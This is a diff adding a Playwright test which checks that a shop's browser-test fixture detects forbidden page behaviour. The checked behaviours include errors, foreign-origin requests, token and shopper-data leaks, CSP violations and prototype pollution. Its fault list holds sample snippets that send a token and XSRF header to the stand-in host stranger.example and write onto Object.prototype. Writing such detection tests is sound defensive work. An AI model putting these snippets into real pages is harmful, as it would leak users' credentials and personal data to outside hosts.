@@ -1,0 +1,67 @@
+import { expect, test } from './support/shop.ts';
+import { ADDRESS } from './support/shopper.ts';
+import { createWatch } from './support/watch.ts';
+
+const FOREIGN = 'https://stranger.example';
+const PAGE = `<!doctype html><title>x</title><p>₹NaN</p><p>Sold by null</p><img alt="undefined" src="data:,"><p>[object Object]</p>`;
+
+/** What a page does that no page of the shop may do, and what the fixture of all tests has to say of it. */
+const FAULTS: readonly (readonly [name: string, script: string, seen: RegExp])[] = [
+  ['throws', 'setTimeout(() => { throw new Error("loose end") })', /^uncaught: Error: loose end/],
+  ['leaves a promise behind', 'void Promise.reject(new Error("unkept"))', /^uncaught: Error: unkept/],
+  ['complains', 'console.error("odd")', /^console error: odd/],
+  ['warns', 'console.warn("odd")', /^console warning: odd/],
+  ['asks a stranger', `fetch("${FOREIGN}/pixel")`, /^asked a foreign origin: https:\/\/stranger\.example\/pixel/],
+  [
+    'takes the token there',
+    `fetch("${FOREIGN}/", { headers: { token: "abc.def" } })`,
+    /^sent token to https:\/\/stranger/,
+  ],
+  ['takes the XSRF token there', `fetch("${FOREIGN}/", { headers: { "x-xsrf-token": "x" } })`, /^sent x-xsrf-token to/],
+  [
+    'puts the token into an address',
+    'fetch("/api/x", { headers: { token: "abc.def" } }); fetch("/api/y?token=abc.def")',
+    /^leaked “abc\.def”: address /,
+  ],
+  [
+    'puts the shopper into an address',
+    `fetch("/api/x?mail=${encodeURIComponent(ADDRESS.Email)}")`,
+    /^leaked “lakshmi@/,
+  ],
+  ['tells the console who it is', `console.log("${ADDRESS['Mobile number']}")`, /^leaked “9876543210”: console /],
+  [
+    'breaks the page’s policy',
+    'document.body.append(Object.assign(new Image(), { src: "https://stranger.example/x" }))',
+    /^console error: policy: img-src/,
+  ],
+  ['writes on the prototype of all objects', 'Object.prototype.polluted = 1', /^prototype: polluted/],
+];
+
+test('S10 S15 S20: the fixture of all browser tests sees everything that no page may do', async ({
+  browser,
+  backend,
+}) => {
+  const context = await browser.newContext();
+  const watch = createWatch(backend.url);
+  await watch.follow(context);
+  await context.route(/./, (route) => {
+    const headers = {
+      'Content-Type': 'text/html; charset=utf-8',
+      'Access-Control-Allow-Origin': '*',
+      'Access-Control-Allow-Headers': '*',
+      'Content-Security-Policy': "img-src 'self' data:",
+    };
+    return route.fulfill({ headers, body: route.request().isNavigationRequest() ? PAGE : '' });
+  });
+  const page = await context.newPage();
+  await page.goto(`${backend.url}/`);
+  for (const [, script] of FAULTS) await page.evaluate(script);
+  for (const [name, , seen] of FAULTS)
+    await expect
+      .poll(() => watch.troubles(context), `a page that ${name} is noticed`)
+      .toContainEqual(expect.stringMatching(seen));
+  const troubles = await watch.troubles(context);
+  for (const text of ['text: ₹NaN', 'text: Sold by null', 'alt="undefined"', 'text: [object Object]'])
+    expect(troubles).toContain(text);
+  await context.close();
+});
